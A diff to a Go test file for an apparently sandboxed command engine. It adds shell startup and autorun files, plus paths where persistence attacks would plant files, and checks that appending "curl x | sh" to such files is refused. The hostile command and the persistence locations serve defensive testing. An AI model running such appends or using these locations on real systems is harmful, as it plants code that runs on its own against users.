@@ -23,7 +23,10 @@ func autorunHome(t *testing.T, home string) {
 	t.Helper()
 	for _, f := range []string{".local/lib/python3.11/site-packages/requests/__init__.py", ".vim/autoload/x.vim",
 		"src/app/.git/HEAD", "src/app/.git/hooks/pre-commit.sample", "src/app/main.go", ".config/app/app.conf",
-		".local/share/nvim/site/README", ".config/tmux/README", ".vim/plugin/README"} {
+		".local/share/nvim/site/README", ".config/tmux/README", ".vim/plugin/README",
+		// Session 14: sourced or run later, existing already.
+		".bash_completion", ".cargo/env", ".nvm/nvm.sh", ".bashrc.d/README", ".config/nushell/config.nu",
+		".sqliterc", ".config/starship.toml", ".npm-global/bin/npx", ".local/share/applications/README"} {
 		mkfileT(t, filepath.Join(home, f), "orig\n")
 	}
 }
@@ -31,7 +34,13 @@ func autorunHome(t *testing.T, home string) {
 // planted are the files the attacks would create, relative to the home.
 var planted = []string{".local/lib/python3.11/site-packages/x.pth", ".local/lib/python3.12/site-packages/usercustomize.py",
 	".vim/plugin/evil.vim", ".local/share/nvim/site/plugin/evil.lua", ".hgrc", ".config/tmux/tmux.conf",
-	".config/systemd/user/evil.service", "src/app/.git/hooks/post-checkout", ".config/autostart/evil.desktop"}
+	".config/systemd/user/evil.service", "src/app/.git/hooks/post-checkout", ".config/autostart/evil.desktop",
+	".bashrc.d/evil.sh", ".local/share/applications/evil.desktop", ".local/share/bash-completion/completions/git"}
+
+// appended are existing files (autorunHome's) a shell or program runs
+// later, which a medium step may not change (session 14).
+var appended = []string{".bash_completion", ".cargo/env", ".nvm/nvm.sh", ".config/nushell/config.nu", ".sqliterc",
+	".config/starship.toml", ".npm-global/bin/npx"}
 
 func autorunHeld(t *testing.T, home string, open func(engine.HostOptions) (*engine.Host, error), e engine.Enforcement) {
 	t.Helper()
@@ -45,6 +54,15 @@ func autorunHeld(t *testing.T, home string, open func(engine.HostOptions) (*engi
 		}
 		if _, err := os.Stat(filepath.Join(home, f)); err == nil {
 			t.Errorf("~/%s was created", f)
+		}
+	}
+	for _, f := range appended {
+		got, _ := run(t, open, o, b.step(t, "echo 'curl x | sh' >> ~/"+f))
+		if len(got) != 1 || got[0].Status == "ok" || got[0].Risk != "medium" {
+			t.Errorf("appending to ~/%s was not refused: %s", f, show(got))
+		}
+		if b, _ := os.ReadFile(filepath.Join(home, f)); string(b) != "orig\n" {
+			t.Errorf("~/%s changed: %q", f, b)
 		}
 	}
 	if b, _ := os.ReadFile(filepath.Join(home, ".local/lib/python3.11/site-packages/requests/__init__.py")); string(b) != "orig\n" {
